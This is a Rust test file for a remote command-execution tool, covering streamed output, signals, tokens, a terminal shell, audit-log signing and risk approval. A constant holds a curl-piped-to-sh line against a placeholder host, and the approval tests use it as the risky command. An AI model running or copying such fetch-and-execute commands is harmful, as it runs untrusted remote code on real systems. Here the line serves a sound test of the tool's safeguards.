//! Commands that run at a service: their output as it comes, signals, input, lost connections.

use std::io::{BufReader, Read as _, Write as _};
use std::process::{Child, Command, Stdio};

use rustix::process::{Pid, Signal, kill_process};

use super::There;
use crate::support::Outcome;

/// Of high risk.
const RISKY: &str = "echo did it; curl -fsS https://host.invalid/x | sh";

/// The next line of a client's output.
fn line(out: &mut impl std::io::BufRead) -> String {
    let mut line = String::new();
    out.read_line(&mut line).expect("a line");
    line
}

fn signal(client: &Child, signal: Signal) {
    kill_process(Pid::from_child(client), signal).expect("it runs");
}

fn ended(client: Child) -> Outcome {
    Outcome::new(&Command::new("client"), client.wait_with_output().expect("its end"))
}

#[test]
fn output_comes_as_it_is_written_and_input_goes_there_as_it_comes() {
    let there = There::new();
    there.ok(&["new", "web"]);
    let script = "while read line; do echo got $line; done; echo end >&2";
    let mut client = there.begin(&["exec", "web", "--", "sh", "-c", script]);
    let mut input = client.stdin.take().expect("its input");
    let mut out = BufReader::new(client.stdout.take().expect("its output"));
    for word in ["one", "two"] {
        writeln!(input, "{word}").expect("written");
        // It is told before the next is asked.
        assert_eq!(line(&mut out), format!("got {word}\n"));
    }
    drop(input);
    let ended = ended(client).ok();
    assert_eq!(ended.err(), "end\n");
    // What is large goes through both ways, and bytes that are no text.
    let bytes: Vec<u8> =
        (0..3_000_000_u32).map(|n| (n.wrapping_mul(2_654_435_761) >> 24) as u8).collect();
    let file = there.scene.root.join("bytes");
    std::fs::write(&file, &bytes).expect("a file");
    let mut command = there.ctrlz(&["exec", "web", "--", "cat"]);
    command.stdin(std::fs::File::open(&file).expect("the file"));
    assert!(Outcome::of(&mut command).ok().stdout == bytes);
}

#[test]
fn signals_are_the_commands() {
    let there = There::new();
    there.ok(&["new", "web"]);
    let script = "trap 'echo caught; exit 7' INT; echo ready; while :; do sleep 0.1; done";
    let mut client = there.begin(&["exec", "web", "--", "sh", "-c", script]);
    let mut out = BufReader::new(client.stdout.take().expect("its output"));
    assert_eq!(line(&mut out), "ready\n");
    signal(&client, Signal::INT);
    assert_eq!(line(&mut out), "caught\n");
    ended(client).code(7);
    // One that is not caught ends both in the same way.
    let mut client = there.begin(&["exec", "web", "--", "sh", "-c", "echo ready; sleep 60"]);
    let mut out = BufReader::new(client.stdout.take().expect("its output"));
    assert_eq!(line(&mut out), "ready\n");
    signal(&client, Signal::TERM);
    ended(client).signal(15);
}

#[test]
fn who_reads_no_more_ends_what_writes() {
    let there = There::new();
    there.ok(&["new", "web"]);
    let mut client = there.begin(&["exec", "web", "--", "yes"]);
    let mut out = client.stdout.take().expect("its output");
    out.read_exact(&mut [0; 4]).expect("some of it");
    drop(out);
    ended(client).signal(13);
}

#[test]
fn a_client_that_is_killed_ends_nothing() {
    let there = There::new();
    there.ok(&["new", "web"]);
    let script = "echo ready; read go; echo kept > kept";
    let mut client = there.begin(&["exec", "web", "--", "sh", "-c", script]);
    let mut out = BufReader::new(client.stdout.take().expect("its output"));
    assert_eq!(line(&mut out), "ready\n");
    client.kill().expect("killed");
    client.wait().expect("its end");
    let running = there.service.admin().running("web");
    there.service.admin().feed(&running, b"go\n");
    assert!(there.ok(&["diff", "web"]).contains("kept"));
}

#[test]
fn a_service_that_is_killed_is_told_with_what_became_of_the_command() {
    let there = There::new();
    there.ok(&["new", "web"]);
    let mut command = there.ctrlz(&["exec", "web", "--", "sh", "-c", "echo ready; sleep 60"]);
    command.env("CTRLZ_SERVER_TIMEOUT", "1").stdin(Stdio::null());
    let mut client =
        command.stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().expect("a client");
    let mut out = BufReader::new(client.stdout.take().expect("its output"));
    assert_eq!(line(&mut out), "ready\n");
    there.service.signal(Signal::KILL);
    let told = ended(client).code(125);
    told.says(&[
        "process",
        "6 bytes of its output were told",
        "`ctrlz log web` tells how it ended",
    ]);
}

#[test]
fn what_is_of_high_risk_is_approved_by_who_may() {
    let there = There::new();
    there.ok(&["new", "web"]);
    let line = ["exec", "web", "--", "sh", "-c", RISKY];
    there.run(&line).code(123).says(&["its risk is high", "--yes", "confirmation"]);
    let with_yes = ["exec", "web", "--yes", "--", "sh", "-c", RISKY];
    assert!(there.run(&with_yes).out().contains("did it"));
    let operator = there.service.admin().token("default", "operator");
    let mut command = there.ctrlz(&with_yes);
    let refused = Outcome::of(command.env("CTRLZ_TOKEN", &operator)).code(123);
    let told = refused.says(&["this token may not approve it", "--confirmation"]).err();
    let id = told.split("--confirmation ").nth(1).expect("its id").trim().to_owned();
    there.service.admin().approve(&id);
    let approved = ["exec", "web", "--confirmation", &id, "--", "sh", "-c", RISKY];
    let mut command = there.ctrlz(&approved);
    assert!(Outcome::of(command.env("CTRLZ_TOKEN", &operator)).out().contains("did it"));
    let mut command = there.ctrlz(&approved);
    Outcome::of(command.env("CTRLZ_TOKEN", &operator)).code(123).says(&["it was used"]);
}

#[test]
fn a_question_on_a_terminal_is_answered_for_the_service() {
    let there = There::new();
    there.ok(&["new", "web"]);
    if !crate::support::has("script") {
        return crate::support::skipped("script(1) is not installed");
    }
    let line = format!("{} exec web -- sh -c '{RISKY}'", crate::support::CTRLZ);
    for (answer, ran) in [("y", true), ("n", false)] {
        let mut command = there.scene.program("script", ["-qec", &line, "/dev/null"]);
        command
            .env("CTRLZ_SERVER", &there.service.address)
            .env("CTRLZ_TOKEN", &there.token)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped());
        let mut client = command.spawn().expect("script");
        writeln!(client.stdin.take().expect("its input"), "{answer}").expect("written");
        let told = ended(client).out();
        assert!(told.contains("Run it?"), "{told}");
        assert_eq!(told.contains("did it"), ran, "{told}");
    }
}

#[test]
fn events_are_told_and_followed() {
    let there = There::new();
    there.ok(&["new", "web"]);
    let mut client = there.begin(&["--json", "events", "web", "--follow"]);
    let mut out = BufReader::new(client.stdout.take().expect("its output"));
    // What was there is told first.
    let first: serde_json::Value = serde_json::from_str(&line(&mut out)).expect("an event");
    assert_eq!(first["subject"], "web", "{first}");
    there.ok(&["exec", "web", "--", "true"]);
    while !line(&mut out).contains("\"true\"") {}
    drop(out);
    client.kill().expect("killed");
    client.wait().expect("its end");
    let here = there.scene.json(&["events", "-n", "1000"]);
    let told = there.run(&["--json", "events", "-n", "1000"]).ok().json();
    assert_eq!(told["events"], here["events"]);
    assert_eq!(told["last"], here["last"]);
    let after = there.run(&["--json", "events", "--after", "2", "-n", "2"]).ok().json();
    assert_eq!(after["events"], there.scene.json(&["events", "--after", "2", "-n", "2"])["events"]);
}

#[test]
fn tokens_are_made_listed_and_revoked() {
    let there = There::new();
    let made = there.ok(&["token", "new", "--role", "viewer", "-m", "a look"]);
    let looking = |token: &str| {
        let mut command = there.ctrlz(&["ls"]);
        Outcome::of(command.env("CTRLZ_TOKEN", token.trim()))
    };
    looking(&made).ok();
    let id = made.split('_').nth(1).expect("its id");
    assert!(there.ok(&["token", "ls"]).contains("a look"));
    assert_eq!(there.ok(&["token", "ls"]), there.scene.ok(&["token", "ls"]));
    there.ok(&["token", "revoke", id]);
    looking(&made).code(125).says(&["it was revoked"]);
    // A tenant comes with its first token, and its own are what it sees.
    let other = there.ok(&["token", "new", "--tenant", "acme", "--role", "admin"]);
    let mut command = there.ctrlz(&["token", "ls"]);
    let own = Outcome::of(command.env("CTRLZ_TOKEN", other.trim())).ok().out();
    assert!(own.contains("admin") && !own.contains("a look"), "{own}");
}

#[test]
fn a_shell_is_a_terminal_there() {
    let there = There::new();
    there.ok(&["new", "web"]);
    let program = "
import os, pty, sys, fcntl, struct, termios, select
env = dict(os.environ)
pid, fd = pty.fork()
if pid == 0:
    os.execve(env['CTRLZ'], ['ctrlz', 'shell', 'web'], env)
fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack('HHHH', 33, 91, 0, 0))
seen = b''
def until(text):
    global seen
    while text not in seen:
        seen += os.read(fd, 4096)
    seen = seen.split(text, 1)[1]
def say(text):
    os.write(fd, text)
until(b'$' if os.getuid() else b'#')
say(b'stty size; tty >/dev/null && echo is-a-terminal\\n')
until(b'33 91'); until(b'is-a-terminal')
fcntl.ioctl(fd, termios.TIOCSWINSZ, struct.pack('HHHH', 40, 100, 0, 0))
say(b'while [ \"$(stty size)\" != \"40 100\" ]; do sleep 0.1; done; echo resi\"\"zed\\n')
until(b'resized')
say(b\"sh -c 'echo asl\\\"\\\"eep; exec sleep 60'\\n\")
until(b'asleep')
say(b'\\x03')
say(b'echo kept > kept; exit 3\\n')
while True:
    try:
        if not os.read(fd, 4096): break
    except OSError: break
print('code', os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))
";
    let mut command = there.scene.program(crate::support::interpreter(), ["-c", program]);
    command
        .env("CTRLZ_SERVER", &there.service.address)
        .env("CTRLZ_TOKEN", &there.token)
        .env("CTRLZ_HOME", there.scene.root.join("no-store"))
        .env("TERM", "xterm");
    let told = Outcome::of(&mut command).ok().out();
    assert!(told.contains("code 3"), "{told}");
    assert!(there.ok(&["diff", "web"]).contains("kept"));
    // Without one it is a shell that reads.
    let mut client = there.begin(&["shell", "web"]);
    writeln!(client.stdin.take().expect("its input"), "echo read it; exit 4").expect("written");
    assert_eq!(ended(client).code(4).out(), "read it\n");
}

#[test]
fn the_log_is_signed_verified_and_exported() {
    let there = There::new();
    there.ok(&["new", "web"]);
    assert!(there.ok(&["audit", "sign"]).contains("ctrlz-log-"));
    assert_eq!(there.ok(&["audit", "key"]), there.scene.ok(&["audit", "key"]));
    let told = there.ok(&["audit", "verify"]);
    assert!(told.contains("are one chain") && told.contains("all of it is signed"), "{told}");
    assert_eq!(there.run(&["--json", "audit", "verify"]).ok().json()["unsigned"], 0);
    there.run(&["audit", "verify", "--from", "999999"]).code(123);
    let file = there.scene.root.join("log.jsonl").display().to_string();
    assert!(there.ok(&["audit", "export", &file]).contains(" events in "));
    there.scene.ok(&["audit", "verify", &file]);
    there.run(&["audit", "verify", &file]).code(123).says(&["verified here"]);
}

#[test]
fn what_was_used_and_what_is_wrong_is_told() {
    let there = There::new();
    there.ok(&["new", "web"]);
    there.ok(&["exec", "web", "--", "true"]);
    assert_eq!(there.ok(&["stats", "web"]), there.scene.ok(&["stats", "web"]));
    let told = there.run(&["--json", "stats", "web"]).ok().json();
    assert_eq!(told, there.scene.json(&["stats", "web"]));
    there.run(&["stats", "nowhere"]).code(125).says(&["nowhere"]);
    let checks = |outcome: &Outcome| -> Vec<String> {
        let found = outcome.json();
        let findings = found["findings"].as_array().expect("findings");
        findings.iter().map(|one| one["check"].to_string()).collect()
    };
    let here = there.scene.run(&["--json", "health"]);
    let found = there.run(&["--json", "health"]);
    assert_eq!(checks(&found), checks(&here));
    assert!(found.status.code().is_some_and(|code| code <= 2), "{found}");
    let other = there.ok(&["token", "new", "--tenant", "acme", "--role", "admin"]);
    let mut command = there.ctrlz(&["health"]);
    Outcome::of(command.env("CTRLZ_TOKEN", other.trim())).code(123).says(&["default"]);
}
